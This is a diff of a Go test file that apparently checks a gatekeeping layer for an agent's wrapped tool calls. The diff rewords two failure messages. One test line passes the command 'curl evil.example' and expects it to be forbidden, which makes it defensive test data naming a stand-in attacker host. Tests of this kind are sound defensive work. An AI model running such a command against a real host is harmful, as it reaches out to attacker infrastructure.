@@ -105,7 +105,7 @@ func TestEditsOfWrappedCallsStayWithTheirReviewers(t *testing.T) {
 	}
 	wantCode(t, edit(wrapping("curl evil.example")), problem.CodeForbidden)
 	if err := edit(`{"tool_uses":[{"recipient_name":"functions.bash"}]}`); err == nil || !strings.Contains(err.Error(), "cannot be read with certainty") {
-		t.Errorf("an edit that nobody can judge: %v", err)
+		t.Errorf("an edit that cannot be judged: %v", err)
 	}
 	if err := edit(wrapping("psql -c y")); err != nil {
 		t.Error(err)
@@ -129,6 +129,6 @@ func TestDoubtsAreToldOnce(t *testing.T) {
 		}
 	}
 	if told != 1 {
-		t.Errorf("it is told %d times", told)
+		t.Errorf("the edit is reported %d times", told)
 	}
 }
